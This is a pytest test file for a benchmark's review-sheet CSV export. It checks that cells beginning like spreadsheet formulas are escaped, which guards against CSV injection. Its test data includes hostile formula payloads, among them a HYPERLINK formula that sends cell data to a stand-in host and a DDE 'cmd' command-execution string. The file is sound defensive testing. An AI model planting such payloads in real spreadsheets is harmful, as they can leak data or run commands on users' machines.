"""Review sheets never hand a spreadsheet a formula (CSV injection), and reading them back loses nothing.

Question texts and annotators' notes that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
are written with a leading ``'`` (OWASP); ``review score`` and ``review adjudicate`` read the original text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dimobench.review.sheets import FORMULA_START, read_csv, write_csv
from dimobench.suite.io import sha256_file
from tests.helpers.cli import run_cli
from tests.helpers.review_sheets import read_rows, write_rows
from tests.helpers.suites import generate

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click me") Which is it now?', "+1+cmd|' /C calc'!A0",
           "-2+3 what changed?", "@SUM(1,2) which one?", "\tTabbed question?", "\rReturned question?",
           "'=already quoted?"]


def hostile_suite(out: Path) -> tuple[Path, dict[str, str]]:
    """A small offline suite whose questions start like formulas (its manifest hash updated to match)."""
    suite = generate(out, turns=120, personas=2, seed=4)
    lines = (suite / "qa.jsonl").read_text(encoding="utf-8").splitlines()
    texts = {}
    for i, line in enumerate(lines):
        rec = json.loads(line)
        rec["question"] = HOSTILE[i % len(HOSTILE)]
        texts[rec["qa_id"]] = rec["question"]
        lines[i] = json.dumps(rec, ensure_ascii=False)
    (suite / "qa.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    manifest = json.loads((suite / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"]["qa.jsonl"] = sha256_file(suite / "qa.jsonl")
    (suite / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return suite, texts


def raw_cells(path: Path) -> list[dict[str, str]]:
    """The cells exactly as a spreadsheet receives them (no unescaping)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_sample_sheets_escape_formula_cells_and_score_reads_them_back(tmp_path: Path) -> None:
    suite, texts = hostile_suite(tmp_path / "suite")
    out = tmp_path / "review"
    r = run_cli("review", "sample", str(suite), "--frac", "0.5", "--calibration", "4", "--seed", "1", "--out",
                str(out))
    assert r.returncode == 0, r.stderr
    for name in ("a", "b"):
        rows = raw_cells(out / f"sheet_{name}.csv")
        assert rows
        for row in rows:
            original = texts[row["qa_id"]]
            assert row["question"] == "'" + original  # shown as text, never run
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_START), (column, cell)
    # annotators fill in labels and notes that look like formulas too; the lead's adjudication sheet is safe
    notes = ["=1+1 looks odd", "-see turn 3", "@lead please check", "'quoted note"]
    for name, verdict in (("a", "ACCEPT"), ("b", "REJECT")):
        rows = read_rows(out / f"sheet_{name}.csv")
        for i, row in enumerate(rows):
            row.update(dict.fromkeys(("supported", "temporally_valid", "implicit", "unambiguous", "type_faithful",
                                      "confounder_robust"), "ACCEPT"), verdict=verdict, note=notes[i % len(notes)])
        write_rows(out / f"sheet_{name}.csv", rows)
    sheets = [str(out / "sheet_a.csv"), str(out / "sheet_b.csv")]
    r = run_cli("review", "adjudicate", *sheets, "--out", str(out / "adjudication.csv"))
    assert r.returncode == 0, r.stderr
    adjudication = raw_cells(out / "adjudication.csv")
    assert adjudication
    for row in adjudication:
        assert row["question"] == "'" + texts[row["qa_id"]]
        assert row["a_note"].startswith("'") and not any(c.startswith(FORMULA_START) for c in row.values())
    rows, _, _ = read_csv(out / "adjudication.csv", ("qa_id",))
    assert {row["qa_id"]: row["question"] for _, row in rows} == {q: texts[q] for q in (r["qa_id"] for _, r in rows)}
    assert {row["a_note"] for _, row in rows} <= set(notes)
    r = run_cli("review", "score", *sheets, "--out", str(out / "agreement.json"))
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr, r.stderr  # scored, gate aside


cells = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=5))
def test_any_cell_survives_a_write_read_round_trip(tmp_path_factory: pytest.TempPathFactory,
                                                   rows: list[tuple[str, str]]) -> None:
    path = tmp_path_factory.mktemp("csv") / "sheet.csv"
    data = [{"qa_id": f"q{i}", "question": q, "note": n} for i, (q, n) in enumerate(rows)]
    write_csv(path, ("qa_id", "question", "note"), data)
    got, _, header = read_csv(path, ("qa_id", "question", "note"))
    assert header == ["qa_id", "question", "note"]
    assert [row for _, row in got] == data
    for row in raw_cells(path):
        assert not any(cell.startswith(FORMULA_START) for cell in row.values())


def test_a_sample_of_nothing_is_refused_not_written_as_empty_sheets(tmp_path: Path) -> None:
    from tests.helpers.suites import generate

    suite = generate(tmp_path / "s", turns=60, personas=1, seed=2)
    out = tmp_path / "review"
    r = run_cli("review", "sample", str(suite), "--frac", "0", "--calibration", "0", "--out", str(out))
    assert r.returncode == 2 and "draws no question" in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert not out.exists()
